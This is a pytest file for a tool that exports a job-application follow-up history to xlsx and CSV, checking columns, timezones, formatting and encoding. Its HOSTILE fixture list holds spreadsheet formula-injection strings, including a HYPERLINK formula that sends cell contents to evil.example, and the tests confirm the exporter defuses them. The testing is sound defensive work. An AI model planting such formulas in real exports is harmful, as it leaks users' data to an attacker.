"""`followup export`: the history as xlsx or CSV, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from report_samples import NOW, TZ, at, process, week_events, week_views

from agent.export import (
    EVENT_HEADERS,
    PROCESS_HEADERS,
    events_rows,
    export_csv,
    export_xlsx,
    export_xlsx_bytes,
    processes_rows,
)
from agent.views import EventView

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn",
]


def _hostile_views() -> list:
    return [
        process(f"h{i}", company, role="Engineer", note=company)
        for i, company in enumerate(HOSTILE)
    ]


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_processes_rows_hold_every_column_in_the_users_timezone() -> None:
    headers, rows = processes_rows(week_views(), TZ)
    assert headers == PROCESS_HEADERS
    assert len(rows) == len(week_views())
    acme = dict(zip(headers, rows[0], strict=True))
    assert acme["company"] == "Acme Robotics"
    assert acme["flags"] == "waiting_on_company"
    assert acme["contact"] == "Dana Rivera <dana.rivera@acme-robotics.example>"
    assert acme["next due"] == date(2026, 11, 20)
    last = acme["last contact"]
    assert isinstance(last, datetime) and last.utcoffset() == TZ.utcoffset(last)
    assert (last.hour, last.minute) == (16, 0)


def test_events_rows_run_oldest_first() -> None:
    headers, rows = events_rows(week_events(), TZ)
    assert headers == EVENT_HEADERS
    dates = [row[0] for row in rows]
    assert dates == sorted(dates)  # type: ignore[type-var]


def test_xlsx_has_two_sheets_with_header_filter_and_real_dates(tmp_path: Path) -> None:
    out = export_xlsx(week_views(), week_events(), tmp_path / "history.xlsx", TZ)
    assert out == tmp_path / "history.xlsx"
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Processes", "Events"]

    sheet = book["Processes"]
    assert [c.value for c in sheet[1]] == PROCESS_HEADERS
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:P{len(week_views()) + 1}"
    assert sheet.max_row == len(week_views()) + 1
    row = {h: c for h, c in zip(PROCESS_HEADERS, sheet[2], strict=True)}
    assert row["company"].value == "Acme Robotics"
    # Local wall-clock time, stored naive (Excel has no timezones).
    assert row["last contact"].value == datetime(2026, 11, 12, 16, 0)
    assert row["last contact"].number_format == "yyyy-mm-dd hh:mm"
    assert row["next due"].value.date() == date(2026, 11, 20)
    assert row["next due"].number_format == "yyyy-mm-dd"
    assert row["follow-ups sent"].value == 0
    # The company column is wide enough for its longest name, within reason.
    width = sheet.column_dimensions["B"].width
    assert len("Vandelay Industries") <= width <= 60

    events = book["Events"]
    assert [c.value for c in events[1]] == EVENT_HEADERS
    assert events.max_row == len(week_events()) + 1
    kinds = {r[3] for r in events.iter_rows(min_row=2, values_only=True)}
    assert {"draft_created", "message_in", "state_changed"} <= kinds


def test_xlsx_bytes_open_in_openpyxl() -> None:
    data = export_xlsx_bytes(week_views(), week_events(), TZ)
    book = openpyxl.load_workbook(io.BytesIO(data))
    companies = [r[1] for r in book["Processes"].iter_rows(min_row=2, values_only=True)]
    assert companies[:2] == ["Acme Robotics", "Globex"]


def test_xlsx_never_turns_mail_text_into_formulas(tmp_path: Path) -> None:
    views = _hostile_views()
    views.append(process("e1", "#N/A", note="bell\x07 and nul\x00 removed"))
    book = openpyxl.load_workbook(export_xlsx(views, [], tmp_path / "h.xlsx", TZ))
    sheet = book["Processes"]
    for i, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=i, column=2)
        assert cell.data_type == "s"
        # XML readers turn a stored CR into LF; the apostrophe is what matters.
        assert cell.value == "'" + text.replace("\r", "\n")
    last = len(HOSTILE) + 2
    assert sheet.cell(row=last, column=2).data_type == "s"
    assert sheet.cell(row=last, column=2).value == "#N/A"
    assert sheet.cell(row=last, column=16).value == "bell and nul removed"


def test_csv_writes_processes_and_a_sibling_events_file(tmp_path: Path) -> None:
    paths = export_csv(week_views(), week_events(), tmp_path / "history.csv", TZ)
    assert paths == [tmp_path / "history.csv", tmp_path / "history-events.csv"]
    processes = _read_csv(paths[0])
    assert processes[0] == PROCESS_HEADERS
    assert len(processes) == len(week_views()) + 1
    acme = dict(zip(PROCESS_HEADERS, processes[1], strict=True))
    assert acme["last contact"] == "2026-11-12T16:00+01:00"
    assert acme["next due"] == "2026-11-20"
    assert acme["closed"] == ""
    events = _read_csv(paths[1])
    assert events[0] == EVENT_HEADERS
    assert len(events) == len(week_events()) + 1


def test_csv_is_utf8_with_bom_crlf_and_quotes_awkward_text(tmp_path: Path) -> None:
    views = [
        process(
            "a1",
            "Société Générale",
            role='Ingénieure "données", Paris',
            note="line one\nline two",
            opened_at=at(11, 1),
        )
    ]
    path = export_csv(views, [], tmp_path / "h.csv", TZ)[0]
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads accents right with a BOM
    assert b"\r\n" in raw
    assert '"Ingénieure ""données"", Paris"'.encode() in raw
    row = dict(zip(PROCESS_HEADERS, _read_csv(path)[1], strict=True))
    assert row["company"] == "Société Générale"
    assert row["role"] == 'Ingénieure "données", Paris'
    assert row["note"] == "line one\nline two"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralizes_formula_injection(tmp_path: Path, text: str) -> None:
    views = [process("x1", text, role=text, note=text)]
    events = [EventView("x1", text, NOW, "message_in", text, subject=text)]
    paths = export_csv(views, events, tmp_path / "h.csv", TZ)
    row = _read_csv(paths[0])[1]
    for cell in (row[1], row[2], row[15]):
        assert cell.startswith("'"), cell
        assert cell[1:] == text
    event = _read_csv(paths[1])[1]
    assert all(cell.startswith("'") for cell in (event[2], event[5], event[6]))


def test_export_of_nothing_still_has_headers(tmp_path: Path) -> None:
    paths = export_csv([], [], tmp_path / "empty.csv", TZ)
    assert _read_csv(paths[0]) == [PROCESS_HEADERS]
    book = openpyxl.load_workbook(export_xlsx([], [], tmp_path / "empty.xlsx", TZ))
    assert [c.value for c in book["Events"][1]] == EVENT_HEADERS
    assert book["Processes"].max_row == 1
